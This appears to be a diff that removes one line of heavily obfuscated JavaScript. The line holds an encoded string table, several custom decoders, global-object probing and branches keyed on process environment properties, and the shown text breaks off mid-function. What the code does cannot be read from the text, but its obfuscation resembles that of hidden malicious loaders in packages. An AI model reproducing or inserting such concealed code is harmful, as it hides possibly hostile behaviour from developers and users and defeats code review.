@@ -1 +1,127 @@
-var isAUb2e,Cawo3ZI,vxMLN8,kmV8q2l,iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,Cew2wi;const CCUQEYq=[0x0,0x1,0x8,0xff,"length","undefined",0x3f,0x6,"fromCodePoint",0x7,0xc,"push",0x5b,0x1fff,0x58,0xd,0xe,0x6d,0x72,0x7f,0x80,null,0xa,0x3,0x97,0x99,"tz",0xc6,0xd1,"3","2",0xd8,0xdf,0xde,"on",!0x0,0xe1,0xed,0xef,0xf0,0xf6,0xf9,0xfb,!0x1,0x104,0x108,0x6b,0x2000000,0x4000000,0x2,0x139,0x179,0x17d,"[","] ",0x186,0x172,0x18d,0x18c,0xb4,"/",0x19f,0x1a0,0x1a1];function mxcTHdH(isAUb2e){var Cawo3ZI="u!%$>19[/v@<),._\"65~#A]EnL3Pj`=Jw?Utfg}ZC^xyN0HlFqzDair|QmMdVBST2cWRk;K(bXo47:{+Y8IOehs&G*p",vxMLN8,kmV8q2l,iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9;Jmn7al4(vxMLN8=""+(isAUb2e||""),kmV8q2l=vxMLN8.length,iguVix=[],ne1HJWf=CCUQEYq[0x0],fteEB9=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<kmV8q2l;wbkRc9++){var ciGv61s=Cawo3ZI.indexOf(vxMLN8[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],ne1HJWf|=uD0dW5t<<fteEB9,fteEB9+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(iguVix.push(ne1HJWf&CCUQEYq[0x3]),ne1HJWf>>=CCUQEYq[0x2],fteEB9-=CCUQEYq[0x2])}while(fteEB9>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){iguVix.push((ne1HJWf|uD0dW5t<<fteEB9)&CCUQEYq[0x3])}return KZ8zhh4(iguVix)}function LDgmDp6(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=mxcTHdH(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(isAUb2e={},Cawo3ZI=["|mtwo}r=F5,6},YCXckzp0mE3ck:j(LjD)O`dK*[WT&8JzCJmc:3P(tt2v","XEsJ1FoCH5","jUs(}h8mkvn7Z$X3#`6=lTj)9@XtH,U6#9M/","XgeodZg~.d}Jp8\"3M$;[","q9OwmVu",">E%b_7ra[|&:1f>563n9","=cW:oF~^o.b<?\"dxQ(zw0:O!","%Ah(r:J^FmT>BbL`0Sp`:7wnoSY8FP7ZumSJ~","drVi_7q4?m_g2OIj](pD/ow2H51,y.|CimTvT+2Hh,RAM;<L;kv{cVH){5t","S.ZvJX<~~v|Yr.`fkD54I?pC>rKt{qTxBj6=G?~!Fv\"k$3Y3","G.f`UhPt}MWdb_[~Qde(!b7Ujc1U)O*EN)r|<s4!j6?;e$b~+Q,J|ict(#DT!","Q$A@OO3=*c,4M.P^.)%DWiu","6_OwYog8/#88fORL&$HJ#(u","3HN@,7N=4.KT!","X$?4YOx%._0W?>Tf}9]>(;|!E#","&UK7CT%MLM:Vu_^J>m\"DrHu","?_jos0DlpS.Uibc6bx6PRo3av#0","zD.[@m>xVdI1z,%6FU|>]","1>}JCXE[wvQqM;$64S|X8azMp#AJ)_f=\"Tsj1V,^n6}J^\"=x~571","NkioKo5f0Q`crLvL$TB7ce{98m+<;Vu5x6dwmeh6cr_k(P$y|CL=~","fV.J`aCnY)=UK8;L2S|qqq1iK2;YD_eUCSZ9bSv,d.QLaOjt{csv(8u","7#7:}r+h5r$9dM`tD0|X={9Hc_PP(.8Z1)[v.","k$=aISv~c5,g,eQtg9J72+5HddooG>GtfEwvwk\"a[,w6k$","795PbzQHzTsVMgW6p61|iZR,avl.31,~gr&rv8x%)AIRx3^LCo$","R$Hj80dEhMC65ggnrrM`zku","#3Z7Jd]/X6zjGt@LKxp/c8C=pd^[Q$","S6F9SZm`.T1cw(qZ~m=>{|6[~~}7/e$LM#Bo`B9=r,lX~l~^[TZr9FIU3S0;!","urJXie`~pSX]xB1gYSk3KoFH?V$Bxqd67dFDL}K5@ch]^>@LT9aoJaTDS5m","PvlX~{:[z)~g/$gnJkmrUXHMq)","x#xbri3aFix.:bnUE_K[D4<^t2WHyI?EpQl9)","ivvDJ(\"s{5VacbuEfVKjRoDEA2kK\"\"Qt:<sa;oICsMc/<3l3I0Vo2|O^:QXRu","_r;7Bey~._?;)V$y\"wR1X+J^,.e:EO4LqC?Dig([G6:o!","&6&v?({5BS_4i,j^sU$","Um][zD}5H_|ty3(}zDJv48At_TcY&(=fNoTXYa>/FmF7JI/3eUlj;Vk5.A3","%V7J?h$,m.j@dKBfWETjO?BTw)cK^bp`C$]7~","}VBjX|u","!54/mVm,76Q.O.?xz)UP0q_!","Lk8D|emTt~*mVPQ^7Um9XfzH{/wP|}lPfk`jHgP~0QcXb_u5U)B|uFn%","wrJrjdP[lAkdM;Bt;xpDpO;4CM>Mg>s^lD$","Ic=aS+(4^6K:7Pp\"B6hzoo(`C,#M%1[5>3Pw&}u","|k/=MiFa0<aX|O[}b$$","uqrv9|D^v@yn!","Ao2qEO+hH5w+u","Cg9|`C9/W~+KT.\"#4Q$","GjB|TMVYerd","K#S[Yf<~B.54wb6##(I`D:M5A2^A\"_rjym;aftK99","1t\"9>F\"n4/)#\"lpx|u","IJ.aR+z=0WI_MLSft3lqea2M6)5+]8dxEw970YSHl5VqMq9LcE*9`Ba29","TgT7\"ShtfrkYu",",V,aVV]fEMqY!gxL>rko9V})y#%\"6\"0~Bj<ws}i`X.@9wd>=Mk$`\"}u","oc^D=B//+i)B}g>J?k$b9V+[zvanqbYPO.nrSZ`[cTXwqb*`D(f[0IO!/6f",",>P`*74!","+LR/^lKsqvJSq\"3E^D`alkGCJW\"4K8```kraL}K9?Vuv:V8CH).|nOsC[","K6QvJl)%","HCD`gkpSycMK!Ly}7d(7?CJ~Pc&K+tZ}U)%P5f./4#9+E%p\"Ij6DqDR!",">T.axtYnyd>gKL(JBv/v;iMn>","$r!9^T2s#2P6:fL^zvvr$H_L\"Ay","C)g[[+R!","Rjk1?{1L.5=Un$","(6S[Fe@MFil6Y(|^wkkJLm_80AjcVdk5Vcy:1iB^I~SWQPC5*x$","t9wr/|rM^6h:G((5H6L9To{9wWOLlIdtPvk`F46i>vz.PI,~@3^DCkzCY)hQ!","8Uf:MH:;9","0kw=Azl~I~?cTKR5sXZq>|?8<6a","}vra>if%cro`4}T=WUE7{oK5HQrTBf}}3_%","&Sxwi4rHq)Y!AV\"Pm3/=uH%M9","0)Ow!|L`Q,!?{;vZq$%43","5DV`&(BtFWTj}gjx|C(>]","0(d:mHMC!W.bQ_TnnrezEmuf[MaWF$","!`lqyX1TVQZ.E.m`]o)orTytRm_=B>Kn;ruPxQC%l5`7\"P$gcUO1KUJm1~A$!","JoL=>b1[0iC7..M^#E_?%H4;dc#7/eVx))KJ#;^;[,kA]8mt>rw=%Hu","80vw1fv!RVV:cf4LhUow+|5%],^Fk$Wfh0Hqa:m!","$qZ=#(A`I_Z.m\"\"U9V|jjYP[&,#@Lbj=T$Gv`","dvbX:;fo4<v40b.","No`@/+8^lVg;u","(<zD(8Ua`./v&3k5bF$","P`)`+}v;L6>Doquyj`Lrwd{HGMukO$VtbrEqACNM<6u{JI!Jh0d`\"faHC,","PH]v_o&`jAf;hf8P{k9[\"af=F)%bu","H(5`G(unEMHANlnj|Ed:Eay[R)ORYO6P2DQ9gtYHA,^","[kSa@;g,5T7VDILtyk{X%8)Mv6Mq6\"\"3rr(q+oXD[@S[aPfnzu",".)xwp}25Dmg791{CQUJ7ygc^mcF<:>GxoSR3=Y~^OV9+SMGt6(C9p0u","`kt`7znaV.,B;nOC3kWwiIH%","wr>`t4g~Xc\"6Sg\"ZAk*rez0lM6","pQKjCQhhmcWiP32EO$~wYfmEW~!4:>=E_msXN4Ia6_pf!","ZmJq4F3a&MTK2F3^<kAj*?W)1~4RDP#PRrx4i:`t#vO5^\"XZ\")#o)","|$e3gQIM:Q\"F:bK5XQmDkb_8QM`;xLhUAH+7Fk&+FVW:0LK}6C:zj}xC9","1wO/ToUouWz7u","kSw=37L8@#X<%B|U]r7zBU7MN<A+HLtLH)!D_(uMZ,!{4$xZ5!","QU|v7Fu","Mv@DHkg[Nd4!G$^3+j$","+XA@0DK)$rR:>\"[J/w}aMKoo3#[vbP%fhDX/Urh!","gy/?;VKHQ6Ca*V!nl3d`R+pYLc6+jdAPwV54{|unXcR5!","BUH>zqakkr0;Ab43<m!4Xf~;IV6UFd|t>3A|4|l~oSj6Cd)~[!","Qc:>G7C)ev]J&KU6*c!4lqt~\"mdW7(R=)E+v","n_*riMv4vc.9C$]C$v@4lT2o@SySXn`6.(}JCQ[[36hKA8Wnnw<:#(75V/i","nC4/HB]H\"T}.vedE5mn?>i+h;~ho+dc6Bk%DtlT,\"T5SBF,#}#0@0T!T9@e_!","Vk(>;V%5qW_+E$","Z3Ri3rx=_WXYq,?x2XqP#a)M!mH@:>",",5k15}H5.W&:@8=nr3/=/|T,8)O_4.r^[51JGmE~V/hw=143}SlvaQwaUvZ","u`FrwlC==5YR|}8C\"wEq]h{UN.|.7O]j80y@k|<T0<q","O0~b|MaacmewYdqCqm~oh(&mHQf+b$\"Pec8rTi^mMSho+.VfADRo3","%5v{|Z+`vMZ","TX:[57^!(2iAa$mE#H*r=hh!s,0q98_3w`hJMU+,pc!bs.83iDrvu|_!._M","&FzDgCv!N<%IG_5j2vV:}l//VQfU#_b},ksj\"|:`TQ?beOWg/>%","uqN@gg{C`AooWLSx!TW18m9azmoK*VW=^cErwXna;~A@vVMf;6BJcfZ[9~^","9wi|^Q~[wA~FCP*]\"([a[8X[0<DYveFU7<SJzQVM&Ma5!f~UEDTjIfE~1","IJ]>abkH\"A_9Y_@~Lk}X9z0~[|Q7YnJ6H#M/Lab9_W|","WD}J:8#%","sK6Py4X!","^&yCq261","JsQ=","/qgYO","|*kKyfk+","{*MNRo6e","=W\"FTU(Y","}BwBoB\"e","^shXTZUU:P","[<B.TZac","!*B.TZac","X{mt1GcU@b9U7<eE","&$O.4]7",".#D9","*:O.RuT2BO#6o<ml#B?cBTY0x/","!)BX9|&AVO","G:P?pk7","3:+w[1JO/","D$y?<Ylc","erx]Ta7","_:O.Ru7","*:O.Ru7","ts;~%1k`N","fy,`r8?w",">rLsYAS1","/Lk/P{v]O","$>cf","hUR=/e(DRoth@r","O[$%25P$[I2)1V5@cr","y>^U/","5_Af","TRQsjEza1$y?w","]:QLrL(:M;]ow","tBY?tR~Y]","hm+27BQ2r^y)w","1F/gFhbh5tWc^","CCV8Sl%E[p>y19@INP","#C%lo<9E","[dkXXbO","9fpY>grN|pXJEZ|","LH[7S:u","LH[7P(Lmq5Q","LH[7P(Lm3#","r6DwO;FskM5MbO|U.!","%><wL","|CO/","8$dw1V%K9","gmA@v^ZhM/ZXFnP6&irq3tk9]|#;3%9","*cbv","gmA@v^ZhGSF7Fn_Z:gB7\"86i}2ncvBeCLD]qPt1!","(EDwj(u","gmA@v^ZhwrG2SM]\"?FsqX}lm4/(RA89","`y=|j","gmA@68Bh3/\"kFOEU__DwJkvi./Ta(}dtaCq/[+u","rjcFd`6mg[","gmA@68Bh3/AM%BaCs/D/];^l\"i2W#Oet1T/P{8Lmq5Q","<kR38?NC7id:X,s]8jFX!bZ4__)b],2=>wTj~;oCSQrX]IB`|cNoxg!^9","ZF/PPtBEuv^Yu","^rD`PlVoD,t0R$%n*Q/9QF1,s,]^&]!","cJY5X(K?>j[Cvbhn)~7^e#|sMj?S8O_~IJ3","=j<jJSsy>P[_m*]",",MY5DLw6","q`yqY","1M}Q8p41q","?g%RDp<,:q9#wK]","q;#RvHmq`Pko!Ozcg`%R","|`zZz","aJ}D@hN+u&*","20}Q]TH,A","ZMj5y","[[+hZpYsj12+u","*3+h!Ssed1","p.$wcb)/A~rH%B#CL!NJ@oH=d6=0u","n_V:Fkf=9","up9s&a+w","4zj\"08Xu22u|w","|t[>T<z>&cp7w","VZA\"Zabaz}Ocw","I.34FqB!","FmDwd:n%","6COw#7onT1GH?\"t<]_B@{{Is4c~Dxqt<4Zbv4]6i(2D09z]CqCrJ@","\"8n@H9S2<4Y}iM!=g&)~PPpV6]^y?:!=}0+rNNzKgHYDAFi|jf","\"WYx:S(HBj#DZ&7??W2C3}:bs<UTf:F3L96TN","dD7b","YUEyDLBx","5syKHk03c!:<;","*C5`u","am3^K","{(_[","L|NG@@(zY,Gl9","Z$d#^Q^:R0,",">>A@3","/g`@Y82s%2BX~}sCadYv0kS=9","/g`@Y82s%27q3qG_V3Yv","/g`@Y82s%2BX~}sC9gZ70ku","lq*dM",":;`d+(!:#","uL;la<cM7Oip0@6uR|","`LQ?Fykl2&","n;R9d>vBk1@","20[768!&@#wsu","KK{RkUHs)yVL9r0v9^","snM9d","P]:U%7q]7]q7%QzM","*.pn","&5]42cLB","q/;fX","EDJG","%RPUS{YFY","6E9Ur","h$2qH4hM","Szj]e/AcY","GqS@7Tfv","cg.XOo`lQ","1&;)@oRv","vqw@?","t&+h@CNv","jr&%","|/VL7Y^C","o9.r","x/_LSY4%j\"]a^=u","mIw7t5NC","@:[7)Yr;r",">wE)ocK?L11X%EUzx/J)4","O8`7|","&:07;","z:%7/c:C","}[v4N+]",")}3j4R.%r","l/JK7R*C","Cq[7;",")3PT","aNyo:XWUW","bs5o!","d#%C1Jd*",":R)ZT[imW","bu1z}~$0","N/eJTKoBZ","Fgv7zKt0","0umz:","kgxQzR50","i$nv=(5%52TXwOjtwu","WKQa\"","^X1;qt,XtX,tqN`Qau","@3!;r(w?s","_cXHSU.A","sfaV&yc1s0X>G[!C/kYL/%u","^X1;qt,XtX,tqN`Q","(i`)P{m{@9B",")!ktH/`mh","I>Y;Z\"MBJ","JVE7P(g~[","pdE7P(g~%TFS!\"}<3ycr=(Sn76D0C\"EUefO/xXsnT1","SH4F\"","q$}oC>I$>$I>C~*4","w@$8BPXg","M(T_PQMyf/Q\"HEISS4ph>\"J(1;2VEgi@dMass","*0?h9","U\"&qMa)Y","6+1yPLU<E;r85IfXSM.s:LTwJlDB=X#?}MEz<fB[(OL.XY","x&HdLfB[^8{/XY","?A\"{c7J*","3F4hG%]w*O\")Y","`dR7|m47M?\"QY",":#0}#aEa4D^?Y","i$Fv,oX^T1&H<}f<yy:%Hk!LNS]Dxqt<8$E7aIx%","OaMVJ[)/ii/v3","vQI4dwa4mk5x3",",FYVF0H0a]yk3","yUFv}K4^}~2W3qt<n_A@w{[~czLcUq3^}3#:(]O[@#(qIqdtv!NJ#7m,)S%Bhk]UOUO/L","oBp2","&K\"NU6uA","}zq8","SKaNb6yv5*rPu0C","p+BU73kA","4f?U:68I8","nBR:}!={N<<.vRF(SKY:y","$QmU&","1fwUI","(fvUK!fA","3BD}hP)","bE3m01u+g_U:#95|zwwS+","j9c[#fDpu","2x5:mKQsA2]D_zVtn!","2x)|h;O64S?bfO4}","2xErmKAl_/`b!","2xcw9+u","2xmw{86i}2PbqniC","C3Fvw(H%","^}_%;<%ZD","Z>af82XXwgQ|06?ti^5?E+cn","W&Y^~~wja@^Sb","!>Yv","{J=8UugFO","3l5\"|4y;i","{Eamu","Br@j8M=Gf","3&KMllt]4e?1h","lDj:P(g~q5x|z;A\"","5_Rwz:X,zT3b!","xQ%68Y%5jiFbFD","xB%fkAE|Z","FBph[","1l%6JdN&BE","CG$ra4+[Uk#I;b","r6)`S","`yDwgk6l9","BC$wd:A~=A7q!","`_D/|KD,Sd?c?>","Un(eJ3rXD","Mm0oC","[h=g*1G{m:",">oS?B)6Wm5&UD%","?k8_j","xy1@`","E_#:{83%","8qW~K>ui","jl#\"czcXR0,","VK|3i`oLj","EKbt$","[qHPi.1DH!_","^fjPL`wej","p`9(%%i<e5(SR","Y3@Vc212A","_wKPd}|Qyz<At&}fMyR{4;h>_/2:a<,gI]CGAKMbbw1Y(Zf",">$.7rXrW:oE^<fE;%tx%EQ7}wy`43c\"(JS5!DTCr0\"}L@MgOlX!~98/bBlp0YgB3.~}wp+sy#p7","Jv6`0_9<sRe!Y]S`F#;gDT1A>ZI{cW4OKcob@q.|IZppcW\"(NrWP4E8ojrWCjtBJm@:}WmIm;rSA~?gyqYig0bld4pkX!f[`5#3,v[MI&Bsk`&i(tX$w[7^AIF=jzfxl_cig0bWbGh*LvdxlYcywUnt$[%*LZ[]l&q*w[7qy.B*1uM\"(J{BtsE5","X3e1#x#cQ!S","VnH1[xn720_","3\"Res%l[jL$5uB","#mrlM2o*H>?W)8y1","[7VC=.>Z>R","a/27!!O[uS7cC","KMuds%s*G>c","aT#HmWT1b/=","L|By$9i<(o|[VW}r6n~yA8GIj!E0Z","{Io$K2=R","XfBVD~;{<<{%R","%1QcmpfcKdIxR","9iAVi2U2f\"!dR","Lk]|FkSnzTjchk]UOUO/9^2u","@0PtMIA|4","3fwq!9@a|B/K}i%5g8P~SjgL!`&m]a)J","7#3gvI.r","w&SDGQZ7LL7@r","@[}$t0&$v>#zr","jW(DWIeI&pP>r","FiZ~","!fwq!9@a\"","|0d[HyC","!fp[Nz:?G","#tU^tRC","0&P~[y<L90L{N(","+2S+[jC","Evo,9C|A","Mv8>V+::wZ/V/wD(@PJQ@!m`g?TWd{ozvB#+S^p.IZ#","F.?5*g3A","FiZ~k.gLE4cpa(U55&oHK#^f!B=ZJ58}88+O","9{$+vzC","FiZ~k.gLE4cpa({5@{.V~NPC",")tID(Gs\"r","\"mai88[8\"5\"","8Z1>","i<U;![.I","1!Y>;","p:6W","Kt~npL_gmRR.(~^)o7en;","6FZj5Lb",":!AnY","B,AnX/b","H)Sng6}hZ","O@2XY","<x3Nxjb",",@$Wn/v(=,(tgT","v):m","c]=}$BcJP{%D|E","85ko(","V,lVcjdwXWBH^H#CxI","P]`}6,\"o!q~","3t[X^r*rV(,","B,Ang6Qu","3EkXh","n4j|^8\"w","!9Ppoiy","UUjH]8HQ3l","5f8pqF>j2","nFo#8=QS\"c,8mCQaGKvs[1y","5U9oqF/w","kZ4k<WVbH","v)[N","l]Dm//^i&S@0eGt29@kX_<N)HJ^|#27C77wGN","l]Dm//^i&S@0eGt2Lt.>Wg$b","h7ypB=aAe","LBcNFm2A","qiznHZ3LooL,A",",]b6I>i6FJBWA","D@sn@mOmi.$JA","pFfpn?b","=t+p!6b","=K|bY<e<OJ.)WVP=%*lgwuSSjM","<cMH","Sn1Q#lqF",";4EAQ",";^l:","z8IA|","D@<fG_pI","D@herBi}T","i$Rw#77j@#RW%1~teDLrRbJD}2cXY_@}PoD/_o~8n@\"",",3j`[VQs~~s8!","8JZaEm3ay<KY!","(g>`g4143S2<!","707o/7#%","G.]|gh[8\"5CQ+lsCSgYv4]u","7Z9q<",">))`nC`l[","eOX|*QN*@/J$,H|B","v\":sFKbz^9o3twBN/q=<%>ay83PF))+.Q`<^x2e\"d","*}e?fh>W,",")`1rv8q5","V$i@nYWn)cQa91@.","ypLB]UrEO/mw7j.WcX,b?fHu","mknv`"]);function QOTJnfa(){var isAUb2e=[function(){return globalThis},function(){return global},function(){return window},function(){return new Function("return this")()}],Cawo3ZI,vxMLN8,kmV8q2l;Jmn7al4(Cawo3ZI=void 0x0,vxMLN8=[]);try{Jmn7al4(Cawo3ZI=Object,vxMLN8[CCUQEYq[0xb]]("".__proto__.constructor.name))}catch(iguVix){}BtKO1j:for(kmV8q2l=CCUQEYq[0x0];kmV8q2l<isAUb2e[CCUQEYq[0x4]];kmV8q2l++)try{var ne1HJWf;Cawo3ZI=isAUb2e[kmV8q2l]();for(ne1HJWf=CCUQEYq[0x0];ne1HJWf<vxMLN8[CCUQEYq[0x4]];ne1HJWf++)if(typeof Cawo3ZI[vxMLN8[ne1HJWf]]===CCUQEYq[0x5])continue BtKO1j;return Cawo3ZI}catch(iguVix){}return Cawo3ZI||this}Jmn7al4(vxMLN8=QOTJnfa()||{},kmV8q2l=vxMLN8.TextDecoder,iguVix=vxMLN8.Uint8Array,ne1HJWf=vxMLN8.Buffer,fteEB9=vxMLN8.String||String,uD0dW5t=vxMLN8.Array||Array,wbkRc9=function(){var isAUb2e=new uD0dW5t(CCUQEYq[0x14]),Cawo3ZI,vxMLN8;Jmn7al4(Cawo3ZI=fteEB9[CCUQEYq[0x8]]||fteEB9.fromCharCode,vxMLN8=[]);return function(kmV8q2l){var iguVix,ne1HJWf,uD0dW5t,wbkRc9;Jmn7al4(ne1HJWf=void 0x0,uD0dW5t=kmV8q2l[CCUQEYq[0x4]],vxMLN8[CCUQEYq[0x4]]=CCUQEYq[0x0]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<uD0dW5t;){Jmn7al4(ne1HJWf=kmV8q2l[wbkRc9++],ne1HJWf<=CCUQEYq[0x13]?iguVix=ne1HJWf:ne1HJWf<=CCUQEYq[0x20]?iguVix=(ne1HJWf&0x1f)<<CCUQEYq[0x7]|kmV8q2l[wbkRc9++]&CCUQEYq[0x6]:ne1HJWf<=CCUQEYq[0x26]?iguVix=(ne1HJWf&0xf)<<CCUQEYq[0xa]|(kmV8q2l[wbkRc9++]&CCUQEYq[0x6])<<CCUQEYq[0x7]|kmV8q2l[wbkRc9++]&CCUQEYq[0x6]:fteEB9[CCUQEYq[0x8]]?iguVix=(ne1HJWf&CCUQEYq[0x9])<<0x12|(kmV8q2l[wbkRc9++]&CCUQEYq[0x6])<<CCUQEYq[0xa]|(kmV8q2l[wbkRc9++]&CCUQEYq[0x6])<<CCUQEYq[0x7]|kmV8q2l[wbkRc9++]&CCUQEYq[0x6]:(iguVix=CCUQEYq[0x6],wbkRc9+=CCUQEYq[0x17]),vxMLN8[CCUQEYq[0xb]](isAUb2e[iguVix]||(isAUb2e[iguVix]=Cawo3ZI(iguVix))))}return vxMLN8.join("")}}());function KZ8zhh4(isAUb2e){return typeof kmV8q2l!==CCUQEYq[0x5]&&kmV8q2l?new kmV8q2l().decode(new iguVix(isAUb2e)):typeof ne1HJWf!==CCUQEYq[0x5]&&ne1HJWf?ne1HJWf.from(isAUb2e).toString("utf-8"):wbkRc9(isAUb2e)}function WQriWoV(){}Jmn7al4(ciGv61s=Object[LDgmDp6(0x6a)](CCUQEYq[0x15]),Cew2wi=void 0x0);function PIyZFd1(vxMLN8,kmV8q2l,iguVix,ne1HJWf={[LDgmDp6(CCUQEYq[0x2e])]:CCUQEYq[0x1]},fteEB9,uD0dW5t,wbkRc9,mxcTHdH){if(!uD0dW5t){uD0dW5t=function(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=fteEB9(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}}if(!fteEB9){fteEB9=function(vxMLN8){var kmV8q2l="(w1]N%/vXkg^&}T|K,:W9i{7d4Q`C>amstGxMbJ+H36rD#ZY.RSL2Fz~pBojcl!$;\"P5A[yn@?u8_0IE)h<e=*fqUVO",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}}Jmn7al4(wbkRc9=void 0x0,mxcTHdH={[uD0dW5t(0x6c)]:function(vxMLN8,kmV8q2l){if(!kmV8q2l){kmV8q2l=function(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=vxMLN8(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}}if(!vxMLN8){vxMLN8=function(vxMLN8){var kmV8q2l="7ec$r9N/Xw=inA*<z20OP4VxE3:pLtU[.%)kgQl(s;,@FJ_}o^CByT~WSGabvIH&+RKh#djq|6Ym]?1fM`ZDu\"8>{5!",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}}if(process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(0x6e)]){function iguVix(vxMLN8){var kmV8q2l="{,+])!&DE@}`d%*XPutlLb9O(?2a/FMqCH#n6;~V^B>pRQ._rjyYkU<4:8GTI[$izgZ=530vwWxfmK|1So7hsNJeAc\"",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}return ne1HJWf(0x6f)}if(process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(0x70)]){function fteEB9(vxMLN8){var kmV8q2l="uaYmjMpAgFHkJSWQ<o{7]&qvBV8wTfi_cPExeGy@,n|[)%(zN:#/lO0t1`b>;25^\"CX4h?KUD639LZd$!R~I+*}r=.s",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var 